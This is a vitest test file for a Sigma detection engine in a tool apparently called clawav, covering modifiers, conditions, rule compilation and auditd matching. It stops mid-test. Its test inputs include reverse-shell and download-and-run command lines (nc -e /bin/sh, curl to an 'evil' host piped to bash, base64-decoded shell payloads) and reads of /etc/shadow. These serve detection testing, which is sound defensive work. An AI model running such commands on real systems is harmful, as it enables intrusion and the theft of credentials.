// The Sigma engine against the Sigma specification (sigmahq.io/docs): value matching and its
// modifiers, conditions, and whole rule files compiled and run on clawav events.
import { describe, expect, it } from "vitest";
import type { Event } from "../../src/events/index.js";
import {
  base64Offsets,
  compileCondition,
  compileSigmaText,
  compileValues,
  parseModifiers,
  pieces,
  SigmaInput,
  SigmaRefusal,
  SigmaSyntaxError,
  windashVariants,
  type FieldValue,
  type SigmaFileResult,
  type SigmaRule,
  type SigmaScalar,
} from "../../src/detect/sigma/index.js";
import { connect, exec, open } from "./events.js";

/** A value test: `values` (one or a list) under the modifiers `mods`. */
const val = (values: SigmaScalar | SigmaScalar[], ...mods: string[]): ((v: FieldValue) => boolean) =>
  compileValues(Array.isArray(values) ? values : [values], parseModifiers(mods));

/** The error `f` throws (fails the test if it throws nothing). */
function thrown(f: () => unknown): unknown {
  try {
    f();
  } catch (e) {
    return e;
  }
  throw new Error("expected a throw");
}

function refusalOf(f: () => unknown): SigmaRefusal {
  const e = thrown(f);
  expect(e).toBeInstanceOf(SigmaRefusal);
  return e as SigmaRefusal;
}

/** A rule file of the given log source and detection lines (indented under `detection:`). */
function ruleText(logsource: string[], detection: string[], extra: string[] = []): string {
  return ["title: test rule", "logsource:", ...logsource.map((l) => `  ${l}`), "detection:", ...detection.map((l) => `  ${l}`), ...extra].join("\n") + "\n";
}
const PROC = ["product: linux", "category: process_creation"];
const NET = ["product: linux", "category: network_connection"];
const AUDITD = ["product: linux", "service: auditd"];

function compiled(text: string, file = "test_rule.yml"): SigmaRule {
  const r = compileSigmaText(text, file);
  if (!("rule" in r)) throw new Error(`expected a rule, got ${JSON.stringify(r, (_k, v: unknown) => (v instanceof Error ? { ...v, message: v.message } : v))}`);
  return r.rule;
}
function refused(r: SigmaFileResult): SigmaRefusal {
  if (!("refused" in r)) throw new Error(`expected a refusal, got ${JSON.stringify(r)}`);
  return r.refused;
}
function errored(r: SigmaFileResult): { error: string; line?: number; key?: string } {
  if (!("error" in r)) throw new Error(`expected an error, got ${JSON.stringify(r)}`);
  return r;
}
const on = (rule: SigmaRule, e: Event) => rule.matches(new SigmaInput(e));
const EXEC_RECORDS = ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"];

describe("case", () => {
  it("strings match case-insensitively by default", () => {
    const t = val("CMD.EXE");
    expect(t("cmd.exe")).toBe(true);
    expect(t("Cmd.Exe")).toBe(true);
    expect(t("cmd.exe ")).toBe(false);
  });
  it("cased makes the match case-sensitive, with and without contains", () => {
    const t = val("CMD.EXE", "cased");
    expect(t("CMD.EXE")).toBe(true);
    expect(t("cmd.exe")).toBe(false);
    const c = val("Invoke-", "contains", "cased");
    expect(c("x Invoke-Expression")).toBe(true);
    expect(c("x invoke-expression")).toBe(false);
  });
});

describe("wildcards and escapes", () => {
  it("* matches any run of characters (also none), anywhere in the value", () => {
    const t = val("a*c");
    expect(t("ac")).toBe(true);
    expect(t("abbbc")).toBe(true);
    expect(t("abbbcd")).toBe(false);
    expect(val("*ab*cd*")("xxabyycdzz")).toBe(true);
    expect(val("*ab*cd*")("xxcdyyab")).toBe(false);
    expect(val("*.sh")("/tmp/x.sh")).toBe(true);
    expect(val("/tmp/*")("/var/tmp/x")).toBe(false);
  });
  it("? matches exactly one character", () => {
    const t = val("a?c");
    expect(t("abc")).toBe(true);
    expect(t("ac")).toBe(false);
    expect(t("abbc")).toBe(false);
    expect(val("a*b?c")("axxbyc")).toBe(true);
    expect(val("a*b?c")("axxbc")).toBe(false);
  });
  it("other characters are literal, regex metacharacters included", () => {
    expect(val("a.c")("abc")).toBe(false);
    expect(val("a.c")("a.c")).toBe(true);
    expect(val("(x)+[y]*")("(x)+[y]zzz")).toBe(true);
    expect(val("(x)+[y]*")("xx[y]")).toBe(false);
  });
  it("\\* and \\? are a literal star and question mark", () => {
    expect(val(String.raw`a\*b`)("a*b")).toBe(true);
    expect(val(String.raw`a\*b`)("axxb")).toBe(false);
    expect(val(String.raw`a\?b`)("a?b")).toBe(true);
    expect(val(String.raw`a\?b`)("axb")).toBe(false);
  });
  it("\\\\ is one backslash; a lone backslash not before a wildcard is literal", () => {
    // The specification's C:\Windows: written with one backslash or two, it is the same value.
    expect(val(String.raw`C:\Windows\System32`)(String.raw`C:\Windows\System32`)).toBe(true);
    expect(val(String.raw`C:\\Windows\\System32`)(String.raw`C:\Windows\System32`)).toBe(true);
    expect(val(String.raw`C:\\Windows`)(String.raw`C:\\Windows`)).toBe(false);
    expect(val("C:\\")("C:\\")).toBe(true);
    // Three or four backslashes are two.
    expect(val(String.raw`a\\\\b`)(String.raw`a\\b`)).toBe(true);
    expect(val(String.raw`a\\\b`)(String.raw`a\\b`)).toBe(true);
  });
  it("a backslash before a wildcard needs doubling to stay a backslash", () => {
    // \\* : a backslash, then the wildcard.
    const t = val(String.raw`C:\Windows\\*\cmd.exe`);
    expect(t(String.raw`C:\Windows\System32\cmd.exe`)).toBe(true);
    // \* : an escaped (literal) star.
    const lit = val(String.raw`C:\Windows\*\cmd.exe`);
    expect(lit(String.raw`C:\Windows\System32\cmd.exe`)).toBe(false);
    expect(lit(String.raw`C:\Windows*\cmd.exe`)).toBe(true);
    // \\\* : a backslash and a literal star.
    const both = val(String.raw`a\\\*`);
    expect(both(String.raw`a\*`)).toBe(true);
    expect(both(String.raw`a\xyz`)).toBe(false);
  });
  it("pieces splits a value into literals and wildcards", () => {
    expect(pieces("a*b?c")).toEqual([{ lit: "a" }, { star: true }, { lit: "b" }, { one: true }, { lit: "c" }]);
    expect(pieces(String.raw`a\*b\?c\\d\e`)).toEqual([{ lit: String.raw`a*b?c\d\e` }]);
    expect(pieces("a**b")).toEqual([{ lit: "a" }, { star: true }, { lit: "b" }]);
  });
});

describe("contains, startswith, endswith, all", () => {
  it("contains finds the value anywhere", () => {
    const t = val("evil", "contains");
    expect(t("curl http://EVIL.example")).toBe(true);
    expect(t("curl http://good.example")).toBe(false);
  });
  it("startswith and endswith anchor one end", () => {
    expect(val("/tmp/", "startswith")("/tmp/x")).toBe(true);
    expect(val("/tmp/", "startswith")("/var/tmp/x")).toBe(false);
    expect(val("/curl", "endswith")("/usr/bin/curl")).toBe(true);
    expect(val("/curl", "endswith")("/usr/bin/curl2")).toBe(false);
  });
  it("contains with wildcards in the value", () => {
    const t = val("evil*.sh", "contains");
    expect(t("curl http://evil-site/x.sh | bash")).toBe(true);
    expect(t("curl http://evil-site/x.py | bash")).toBe(false);
    const q = val("nc -? ", "contains");
    expect(q("x nc -e /bin/sh")).toBe(true);
    expect(q("x nc -ee /bin/sh")).toBe(false);
  });
  it("startswith with wildcards in the value", () => {
    const t = val("/tmp/*/run", "startswith");
    expect(t("/tmp/a/b/run.sh")).toBe(true);
    expect(t("/var/tmp/a/run")).toBe(false);
    const q = val("/h?me/", "startswith");
    expect(q("/home/agent")).toBe(true);
    expect(q("/hoome/agent")).toBe(false);
  });
  it("endswith with wildcards in the value", () => {
    const t = val(".s?", "endswith");
    expect(t("x.sh")).toBe(true);
    expect(t("x.shx")).toBe(false);
    const s = val("/bin/*sh", "endswith");
    expect(s("/usr/bin/bash")).toBe(true);
    expect(s("/usr/bin/bash -c")).toBe(false);
  });
  it("a list of values is OR; all makes it AND", () => {
    const any = val(["curl", "wget"], "contains");
    expect(any("x wget y")).toBe(true);
    expect(any("x fetch y")).toBe(false);
    const all = val(["curl", "| sh"], "contains", "all");
    expect(all("curl x | sh")).toBe(true);
    expect(all("curl x")).toBe(false);
    expect(all("wget x | sh")).toBe(false);
  });
  it("without a modifier a value matches the whole field, not a part", () => {
    expect(val("curl")("curl")).toBe(true);
    expect(val("curl")("/usr/bin/curl")).toBe(false);
    expect(val("")("")).toBe(true);
    expect(val("")("x")).toBe(false);
  });
});

describe("re", () => {
  it("finds the expression anywhere (unanchored) unless it anchors itself", () => {
    expect(val("a.c", "re")("xxabcxx")).toBe(true);
    expect(val("^abc$", "re")("xabc")).toBe(false);
    expect(val("^abc$", "re")("abc")).toBe(true);
    expect(val("\\d{4}", "re")(4444)).toBe(true);
  });
  it("is case-sensitive by default; re|i makes it insensitive", () => {
    expect(val("ABC", "re")("abc")).toBe(false);
    expect(val("ABC", "re", "i")("abc")).toBe(true);
  });
  it("re|m makes ^ and $ match at lines; re|s makes . match a newline", () => {
    expect(val("^b", "re")("a\nb")).toBe(false);
    expect(val("^b", "re", "m")("a\nb")).toBe(true);
    expect(val("a.b", "re")("a\nb")).toBe(false);
    expect(val("a.b", "re", "s")("a\nb")).toBe(true);
  });
  it("a regular expression RE2 cannot run (backreference, lookaround) is refused, not loosened", () => {
    expect(refusalOf(() => val("(a)\\1", "re")).feature).toBe("regular expression outside RE2");
    expect(refusalOf(() => val("foo(?=bar)", "re")).feature).toBe("regular expression outside RE2");
  });
  it("i, m and s without re are a syntax error", () => {
    expect(thrown(() => parseModifiers(["i"]))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => parseModifiers(["contains", "s"]))).toBeInstanceOf(SigmaSyntaxError);
  });
});

describe("base64 and base64offset", () => {
  it("base64 matches the encoding of the value exactly; with contains, inside", () => {
    expect(Buffer.from("http://").toString("base64")).toBe("aHR0cDovLw==");
    expect(val("http://", "base64")("aHR0cDovLw==")).toBe(true);
    expect(val("http://", "base64")("xaHR0cDovLw==")).toBe(false);
    expect(val("http://", "base64")("http://")).toBe(false);
    expect(val("http://", "base64", "contains")("echo aHR0cDovLw== | base64 -d")).toBe(true);
  });
  it("the three offsets of 'http://' are the specification's", () => {
    expect(base64Offsets("http://")).toEqual(["aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"]);
    // Each rendering is a substring of the encoding of the value shifted by 0, 1 or 2 bytes.
    for (let i = 0; i < 3; i++) expect(Buffer.from("x".repeat(i) + "http://abc").toString("base64")).toContain(base64Offsets("http://")[i]);
  });
  it("base64offset|contains finds the value encoded at any byte offset inside a command", () => {
    const t = val("http://", "base64offset", "contains");
    for (let i = 0; i < 6; i++) {
      for (const prefix of ["", "wget ", "IEX (iwr "]) {
        const payload = " ".repeat(i) + prefix + "http://x";
        const b64 = Buffer.from(payload).toString("base64");
        expect(t(`bash -c "echo ${b64} | base64 -d | sh"`), JSON.stringify(payload)).toBe(true);
      }
    }
    expect(t(`echo ${Buffer.from("wget ftp://x").toString("base64")} | base64 -d`)).toBe(false);
    expect(t("wget http://x")).toBe(false);
  });
  it("a wildcard cannot be encoded: refused; base64 with an exclusive modifier is a syntax error", () => {
    expect(refusalOf(() => val("http*", "base64")).feature).toBe("base64 of a wildcard");
    expect(thrown(() => parseModifiers(["base64", "re"]))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => parseModifiers(["base64", "base64offset"]))).toBeInstanceOf(SigmaSyntaxError);
  });
});

describe("windash", () => {
  it("a dash matches -, /, en dash, em dash and horizontal bar", () => {
    const t = val("-e", "windash");
    for (const s of ["-e", "/e", "\u2013e", "\u2014e", "\u2015e"]) expect(t(s), s).toBe(true);
    expect(t("+e")).toBe(false);
    expect(t("e")).toBe(false);
    expect(new Set(windashVariants("-e"))).toEqual(new Set(["-e", "/e", "\u2013e", "\u2014e", "\u2015e"]));
  });
  it("a slash in the rule is a dash too; with contains in a command line", () => {
    const t = val(" /enc ", "windash", "contains");
    expect(t("powershell -enc AAAA")).toBe(true);
    expect(t("powershell \u2014enc AAAA")).toBe(true);
    expect(t("powershell enc AAAA")).toBe(false);
  });
  it("only option dashes vary: a dash between word characters stays", () => {
    expect(windashVariants("a-b")).toEqual(["a-b"]);
    expect(windashVariants("-a -b")).toHaveLength(25);
  });
});

describe("cidr, exists, comparisons, null, numbers", () => {
  it("cidr on IPv4", () => {
    const t = val("10.0.0.0/8", "cidr");
    expect(t("10.1.2.3")).toBe(true);
    expect(t("11.0.0.1")).toBe(false);
    expect(t(undefined)).toBe(false);
    const list = val(["192.168.0.0/16", "127.0.0.0/8"], "cidr");
    expect(list("127.0.0.1")).toBe(true);
    expect(list("192.169.0.1")).toBe(false);
  });
  it("cidr on IPv6", () => {
    const t = val("2001:db8::/32", "cidr");
    expect(t("2001:db8::1")).toBe(true);
    expect(t("2001:db8:ffff::1")).toBe(true);
    expect(t("2001:db9::1")).toBe(false);
    expect(t("10.0.0.1")).toBe(false);
    expect(val("::1/128", "cidr")("::1")).toBe(true);
  });
  it("a malformed cidr is a syntax error", () => {
    expect(thrown(() => val("10.0.0.0/33", "cidr"))).toBeInstanceOf(SigmaSyntaxError);
  });
  it("exists: true holds for a present field, false for an absent one", () => {
    const yes = val(true, "exists");
    expect(yes("x")).toBe(true);
    expect(yes(0)).toBe(true);
    expect(yes(undefined)).toBe(false);
    expect(yes(null)).toBe(false);
    const no = val(false, "exists");
    expect(no(undefined)).toBe(true);
    expect(no("x")).toBe(false);
    expect(thrown(() => val("yes", "exists"))).toBeInstanceOf(SigmaSyntaxError);
  });
  it("lt, lte, gt, gte compare numbers and numeric strings", () => {
    expect(val(10, "lt")(9)).toBe(true);
    expect(val(10, "lt")(10)).toBe(false);
    expect(val(10, "lte")(10)).toBe(true);
    expect(val(10, "lte")(11)).toBe(false);
    expect(val(10, "gt")(11)).toBe(true);
    expect(val(10, "gt")(10)).toBe(false);
    expect(val(10, "gte")(10)).toBe(true);
    expect(val(10, "gte")(9)).toBe(false);
    // Numeric strings on either side compare as numbers (not as text: "9" > "10" as text).
    expect(val(10, "gt")("9")).toBe(false);
    expect(val(10, "lt")("9")).toBe(true);
    expect(val("1000", "gte")(1000)).toBe(true);
    expect(val("1000", "gte")("999")).toBe(false);
    // Not numbers: false, never a match by accident.
    expect(val(10, "lt")("abc")).toBe(false);
    expect(val(10, "lt")("")).toBe(false);
    expect(val(10, "gt")("Infinity")).toBe(false);
    expect(val(10, "lt")(undefined)).toBe(false);
    expect(thrown(() => val("ten", "lt"))).toBeInstanceOf(SigmaSyntaxError);
  });
  it("null matches an absent or empty field and nothing else", () => {
    const t = val(null);
    expect(t(undefined)).toBe(true);
    expect(t(null)).toBe(true);
    expect(t("")).toBe(true);
    expect(t("x")).toBe(false);
    expect(t(0)).toBe(false);
  });
  it("a number in a rule matches the number and its decimal text", () => {
    const t = val(4444);
    expect(t(4444)).toBe(true);
    expect(t("4444")).toBe(true);
    expect(t(4445)).toBe(false);
    expect(t("44445")).toBe(false);
    expect(val("4444")(4444)).toBe(true);
  });
});

describe("modifiers", () => {
  it("refuses modifiers clawav does not evaluate, naming them", () => {
    expect(refusalOf(() => parseModifiers(["utf16le"])).feature).toBe("modifier utf16le");
    expect(refusalOf(() => parseModifiers(["contains", "wide"])).feature).toBe("modifier wide");
    expect(refusalOf(() => parseModifiers(["expand"])).feature).toBe("modifier expand");
    expect(refusalOf(() => parseModifiers(["frobnicate"])).feature).toBe("modifier frobnicate");
  });
  it("refuses combinations that mean nothing as syntax errors", () => {
    expect(thrown(() => parseModifiers(["re", "contains"]))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => parseModifiers(["cidr", "lt"]))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => parseModifiers(["exists", "startswith"]))).toBeInstanceOf(SigmaSyntaxError);
  });
  it("parses a valid chain into its set", () => {
    expect(parseModifiers(["contains", "all"])).toEqual(new Set(["contains", "all"]));
  });
  it("an empty list of values is a syntax error", () => {
    expect(thrown(() => compileValues([], new Set()))).toBeInstanceOf(SigmaSyntaxError);
  });
});

describe("conditions", () => {
  type X = ReadonlySet<string>;
  const sels = (...names: string[]) => new Map(names.map((n) => [n, (x: X) => x.has(n)]));
  /** Every subset of `names`, as the set of selections that hold. */
  const subsets = (names: string[]): X[] => Array.from({ length: 1 << names.length }, (_, m) => new Set(names.filter((_n, i) => m & (1 << i))));
  const agrees = (cond: string, names: string[], truth: (h: (n: string) => boolean) => boolean) => {
    const p = compileCondition(cond, sels(...names));
    for (const x of subsets(names)) expect(p(x), `${cond} with ${JSON.stringify([...x])}`).toBe(truth((n) => x.has(n)));
  };

  it("not binds tighter than and, and tighter than or", () => {
    agrees("a or b and c", ["a", "b", "c"], (h) => h("a") || (h("b") && h("c")));
    agrees("a and b or c", ["a", "b", "c"], (h) => (h("a") && h("b")) || h("c"));
    agrees("not a and b", ["a", "b"], (h) => !h("a") && h("b"));
    agrees("not a or b", ["a", "b"], (h) => !h("a") || h("b"));
    agrees("a and not b or c", ["a", "b", "c"], (h) => (h("a") && !h("b")) || h("c"));
    agrees("not not a", ["a"], (h) => h("a"));
  });
  it("parentheses group", () => {
    agrees("(a or b) and c", ["a", "b", "c"], (h) => (h("a") || h("b")) && h("c"));
    agrees("not (a and b)", ["a", "b"], (h) => !(h("a") && h("b")));
    agrees("a and (b or (not c and a))", ["a", "b", "c"], (h) => h("a") && (h("b") || (!h("c") && h("a"))));
  });
  it("1 of / any of / all of a pattern", () => {
    const names = ["sel1", "sel2", "other"];
    agrees("1 of sel*", names, (h) => h("sel1") || h("sel2"));
    agrees("any of sel*", names, (h) => h("sel1") || h("sel2"));
    agrees("all of sel*", names, (h) => h("sel1") && h("sel2"));
    agrees("1 of sel? and not other", names, (h) => (h("sel1") || h("sel2")) && !h("other"));
    agrees("all of sel* or other", names, (h) => (h("sel1") && h("sel2")) || h("other"));
  });
  it("them is every selection but those starting with _", () => {
    const names = ["a", "b", "_filter"];
    agrees("1 of them", names, (h) => h("a") || h("b"));
    agrees("all of them", names, (h) => h("a") && h("b"));
    // An _ selection is still usable by name.
    agrees("all of them and not _filter", names, (h) => h("a") && h("b") && !h("_filter"));
  });
  it("a name that is not a selection, or a pattern matching none, is a syntax error", () => {
    expect(thrown(() => compileCondition("a and nope", sels("a")))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => compileCondition("1 of zz*", sels("a")))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => compileCondition("a and", sels("a")))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => compileCondition("a b", sels("a", "b")))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => compileCondition("(a", sels("a")))).toBeInstanceOf(SigmaSyntaxError);
    expect(thrown(() => compileCondition("", sels("a")))).toBeInstanceOf(SigmaSyntaxError);
  });
  it("aggregations and near are refused by name", () => {
    expect(refusalOf(() => compileCondition("a | count() > 5", sels("a"))).feature).toBe("aggregation");
    expect(refusalOf(() => compileCondition("a | count(User) by Image > 2", sels("a"))).feature).toBe("aggregation");
    expect(refusalOf(() => compileCondition("a near b", sels("a", "b"))).feature).toBe("near");
  });
});

describe("rule files", () => {
  it("keywords: a list of strings, any found in the command line, case-insensitively", () => {
    const r = compiled(ruleText(PROC, ["keywords:", "  - 'wget http'", "  - 'nc -e'", "condition: keywords"]));
    expect(on(r, exec(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]))).toBe(true);
    expect(on(r, exec(["NC", "-E", "/bin/sh"]))).toBe(true);
    expect(on(r, exec(["wget", "http://x"]))).toBe(true);
    expect(on(r, exec(["nc", "-l", "4444"]))).toBe(false);
  });
  it("a key of only modifiers ('|all') makes its list keywords that must all appear", () => {
    const r = compiled(ruleText(PROC, ["keywords:", "  '|all':", "    - 'curl'", "    - '| sh'", "condition: keywords"]));
    expect(on(r, exec(["curl", "http://x", "|", "sh"]))).toBe(true);
    expect(on(r, exec(["curl", "http://x"]))).toBe(false);
    expect(on(r, exec(["wget", "http://x", "|", "sh"]))).toBe(false);
  });
  it("a mapping is AND over its fields; a list of mappings is OR", () => {
    const and = compiled(ruleText(PROC, ["sel:", "  Image|endswith: /curl", "  CommandLine|contains: evil", "condition: sel"]));
    expect(on(and, exec(["curl", "http://evil.example"]))).toBe(true);
    expect(on(and, exec(["curl", "http://good.example"]))).toBe(false);
    expect(on(and, exec(["wget", "http://evil.example"]))).toBe(false);
    const or = compiled(ruleText(PROC, ["sel:", "  - Image|endswith: /curl", "  - Image|endswith: /wget", "condition: sel"]));
    expect(on(or, exec(["curl", "x"]))).toBe(true);
    expect(on(or, exec(["wget", "x"]))).toBe(true);
    expect(on(or, exec(["fetch", "x"]))).toBe(false);
  });
  it("a list of values of a field is OR; |all makes it AND", () => {
    const or = compiled(ruleText(PROC, ["sel:", "  CommandLine|contains:", "    - '/etc/shadow'", "    - '/etc/gshadow'", "condition: sel"]));
    expect(on(or, exec(["cat", "/etc/gshadow"]))).toBe(true);
    expect(on(or, exec(["cat", "/etc/passwd"]))).toBe(false);
    const and = compiled(ruleText(PROC, ["sel:", "  CommandLine|contains|all:", "    - ' -c '", "    - 'base64'", "condition: sel"]));
    expect(on(and, exec(["bash", "-c", "echo x | base64 -d"]))).toBe(true);
    expect(on(and, exec(["bash", "-c", "echo x"]))).toBe(false);
  });
  it("a list of conditions is OR", () => {
    const r = compiled(ruleText(PROC, ["a:", "  Image|endswith: /curl", "b:", "  Image|endswith: /wget", "condition:", "  - a", "  - b"]));
    expect(on(r, exec(["curl", "x"]))).toBe(true);
    expect(on(r, exec(["wget", "x"]))).toBe(true);
    expect(on(r, exec(["nc", "x"]))).toBe(false);
  });
  it("a condition naming an _ filter, and why naming the selections that held", () => {
    const r = compiled(ruleText(PROC, ["sel_curl:", "  Image|endswith: /curl", "sel_wget:", "  Image|endswith: /wget", "_filter:", "  CommandLine|contains: registry.npmjs.org", "condition: 1 of sel_* and not _filter"]));
    expect(on(r, exec(["curl", "https://evil.example"]))).toBe(true);
    expect(on(r, exec(["curl", "https://registry.npmjs.org/zod"]))).toBe(false);
    expect(r.why(new SigmaInput(exec(["curl", "https://evil.example"])))).toEqual(["sel_curl"]);
  });
  it("a number in a rule matches a port (a number in the event)", () => {
    const r = compiled(ruleText(NET, ["sel:", "  DestinationPort: 4444", "condition: sel"]));
    expect(on(r, connect("/usr/bin/nc", "10.0.0.5", 4444))).toBe(true);
    expect(on(r, connect("/usr/bin/nc", "10.0.0.5", 44445))).toBe(false);
    const s = compiled(ruleText(NET, ["sel:", "  DestinationPort: '4444'", "condition: sel"]));
    expect(on(s, connect("/usr/bin/nc", "10.0.0.5", 4444))).toBe(true);
  });
  it("cidr and numeric comparisons on network fields", () => {
    const r = compiled(ruleText(NET, ["sel:", "  DestinationIp|cidr:", "    - 10.0.0.0/8", "    - 'fd00::/8'", "  DestinationPort|lt: 1024", "condition: sel"]));
    expect(on(r, connect("/usr/bin/nc", "10.9.8.7", 22))).toBe(true);
    expect(on(r, connect("/usr/bin/nc", "fd12::1", 80))).toBe(true);
    expect(on(r, connect("/usr/bin/nc", "10.9.8.7", 4444))).toBe(false);
    expect(on(r, connect("/usr/bin/nc", "8.8.8.8", 22))).toBe(false);
  });
  it("null and exists on a field the event lacks", () => {
    const base = exec(["sh", "-c", "id"]);
    const withParent: Event = { ...base, process: { ...base.process!, parent_argv: ["bash", "-i"] } };
    const none = compiled(ruleText(PROC, ["sel:", "  ParentCommandLine: null", "condition: sel"]));
    expect(on(none, base)).toBe(true);
    expect(on(none, withParent)).toBe(false);
    const has = compiled(ruleText(PROC, ["sel:", "  ParentCommandLine|exists: true", "condition: sel"]));
    expect(on(has, base)).toBe(false);
    expect(on(has, withParent)).toBe(true);
  });
  it("a field clawav does not have is refused with the field named", () => {
    expect(refused(compileSigmaText(ruleText(PROC, ["sel:", "  Foo: bar", "condition: sel"]), "x.yml")).feature).toBe("field Foo");
    expect(refused(compileSigmaText(ruleText(PROC, ["sel:", "  Hashes|contains: 'SHA256='", "condition: sel"]), "x.yml")).feature).toBe("field Hashes");
    // TargetFilename is a file_event field, not a process_creation one.
    expect(refused(compileSigmaText(ruleText(PROC, ["sel:", "  TargetFilename: /etc/passwd", "condition: sel"]), "x.yml")).feature).toBe("field TargetFilename");
  });
  it("a refused modifier inside a rule refuses the rule", () => {
    const r = compileSigmaText(ruleText(PROC, ["sel:", "  CommandLine|utf16le|base64offset|contains: 'http'", "condition: sel"]), "x.yml");
    expect(refused(r).feature).toBe("modifier utf16le");
    expect("title" in r && r.title).toBe("test rule");
  });
  it("log sources clawav has no events for are refused", () => {
    expect(refused(compileSigmaText(ruleText(["product: windows", "category: process_creation"], ["sel:", "  Image|endswith: '\\cmd.exe'", "condition: sel"]), "x.yml")).feature).toBe("logsource product windows");
    expect(refused(compileSigmaText(ruleText(["product: linux", "service: nginx"], ["keywords:", "  - 'error'", "condition: keywords"]), "x.yml")).feature).toBe("logsource service nginx");
    expect(refused(compileSigmaText(ruleText(["product: linux", "category: dns_query"], ["sel:", "  QueryName: x", "condition: sel"]), "x.yml")).feature).toBe("logsource category dns_query");
  });
  it("aggregations, timeframes and status unsupported are refused", () => {
    expect(refused(compileSigmaText(ruleText(PROC, ["sel:", "  Image|endswith: /curl", "condition: sel | count() > 5"]), "x.yml")).feature).toBe("aggregation");
    expect(refused(compileSigmaText(ruleText(PROC, ["sel:", "  Image|endswith: /curl", "timeframe: 5m", "condition: sel"]), "x.yml")).feature).toBe("timeframe");
    expect(refused(compileSigmaText(ruleText(PROC, ["sel:", "  Image|endswith: /curl", "condition: sel"], ["status: unsupported"]), "x.yml")).feature).toBe("status unsupported");
  });
  it("malformed YAML is an error with its line", () => {
    const text = ["title: t", "logsource:", "  category: process_creation", "detection:", "  sel:", "    Image: /bin/x", "  sel:", "    Image: /bin/y", "  condition: sel"].join("\n");
    const e = errored(compileSigmaText(text, "x.yml"));
    expect(e.line).toBe(7);
    const unclosed = errored(compileSigmaText(["title: t", "logsource:", "  category: process_creation", "detection:", "  sel:", "    Image: [a, b", "  condition: sel"].join("\n"), "x.yml"));
    expect(unclosed.line).toBeGreaterThanOrEqual(6);
  });
  it("a rule without detection or without condition is an error naming the key", () => {
    const noDet = errored(compileSigmaText(["title: t", "logsource:", "  category: process_creation"].join("\n"), "x.yml"));
    expect(noDet.key).toBe("detection");
    const noCond = errored(compileSigmaText(ruleText(PROC, ["sel:", "  Image: /bin/x"]), "x.yml"));
    expect(noCond.key).toBe("detection.condition");
    const badName = errored(compileSigmaText(ruleText(PROC, ["sel:", "  Image: /bin/x", "condition: selection"]), "x.yml"));
    expect(badName.key).toBe("detection.condition");
    expect(badName.line).toBe(8);
    const noTitle = errored(compileSigmaText(["logsource:", "  category: process_creation", "detection:", "  sel:", "    Image: x", "  condition: sel"].join("\n"), "x.yml"));
    expect(noTitle.key).toBe("title");
  });
  it("levels map to clawav severities", () => {
    const sev = (level: string) => compiled(ruleText(PROC, ["sel:", "  Image: /bin/x", "condition: sel"], [`level: ${level}`])).severity;
    expect(sev("informational")).toBe("info");
    expect(sev("low")).toBe("info");
    expect(sev("medium")).toBe("warning");
    expect(sev("high")).toBe("critical");
    expect(sev("critical")).toBe("critical");
    expect(compiled(ruleText(PROC, ["sel:", "  Image: /bin/x", "condition: sel"])).severity).toBe("warning");
    expect(errored(compileSigmaText(ruleText(PROC, ["sel:", "  Image: /bin/x", "condition: sel"], ["level: severe"]), "x.yml")).key).toBe("level");
  });
  it("tags give MITRE techniques and the category of the first tactic", () => {
    const r = compiled(ruleText(PROC, ["sel:", "  Image: /bin/x", "condition: sel"], ["tags:", "  - attack.persistence", "  - attack.t1059.004", "  - attack.T1053", "  - car.2013-05-004"]), "rules/linux/proc_creation_lnx_x.yml");
    expect(r.mitre).toEqual(["T1059.004", "T1053"]);
    expect(r.category).toBe("PERSISTENCE");
    expect(r.name).toBe("sigma/proc_creation_lnx_x");
    expect(r.logsource).toBe("process_creation");
    expect(compiled(ruleText(PROC, ["sel:", "  Image: /bin/x", "condition: sel"], ["tags:", "  - attack.credential-access"])).category).toBe("CRED_ACCESS");
  });
  it("TargetFilename on file events", () => {
    const r = compiled(ruleText(["product: linux", "category: file_event"], ["sel:", "  TargetFilename|startswith: /etc/cron", "condition: sel"]));
    expect(on(r, open("/usr/bin/tee", "/etc/cron.d/x", { write: true }))).toBe(true);
    expect(on(r, open("/usr/bin/tee", "/tmp/cron.d/x", { write: true }))).toBe(false);
  });
});

describe("auditd rules", () => {
  const execEvent = (argv: string[]): Event => ({ ...exec(argv), record_types: EXEC_RECORDS });
  it("type: EXECVE with a0 holds in the EXECVE record of an exec", () => {
    const r = compiled(ruleText(AUDITD, ["sel:", "  type: EXECVE", "  a0: grep", "condition: sel"]));
    const e = execEvent(["grep", "-r", "password", "/etc"]);
    expect(on(r, e)).toBe(true);
    expect(r.why(new SigmaInput(e))).toEqual(["sel (EXECVE record)"]);
    expect(on(r, execEvent(["egrep", "x"]))).toBe(false);
    // No EXECVE record in the event, no EXECVE match.
    expect(on(r, { ...exec(["grep", "x"]), record_types: ["SYSCALL", "CWD", "PATH"] })).toBe(false);
  });
  it("type: SYSCALL with SYSCALL: execve holds in the SYSCALL record", () => {
    const r = compiled(ruleText(AUDITD, ["sel:", "  type: SYSCALL", "  SYSCALL: execve", "condition: sel"]));
    const e = execEvent(["id"]);
    expect(on(r, e)).toBe(true);
    expect(r.why(new SigmaInput(e))).toEqual(["sel (SYSCALL record)"]);
    expect(on(r, open("/usr/bin/cat", "/etc/passwd"))).toBe(false);
  });
  it("type: PATH with name|startswith holds in a PATH record of the file", () => {
    const r = compiled(ruleText(AUDITD, ["sel:", "  type: PATH", "  name|startswith: /etc/", "condition: sel"]));
    const e = open("/usr/bin/cat", "/etc/passwd");
    expect(e.file!.items).toEqual([{ name: "/etc/passwd", nametype: "NORMAL" }]);
    expect(on(r, e)).toBe(true);
    expect(r.why(new SigmaInput(e))).toEqual(["sel (PATH record)"]);
    expect(on(r, open("/usr/bin/cat", "/home/agent/notes"))).toBe(false);
  });
  it("the fields of one selection must hold in one record", () => {
    // name is in the PATH record, SYSCALL in the SYSCALL record: no record has both.
    const r = compiled(ruleText(AUDITD, ["sel:", "  SYSCALL: openat", "  name: /etc/passwd", "condition: sel"]));
    expect(on(r, open("/usr/bin/cat", "/etc/passwd"))).toBe(false);
    // Split into two selections, each finds its own record, and why says which.
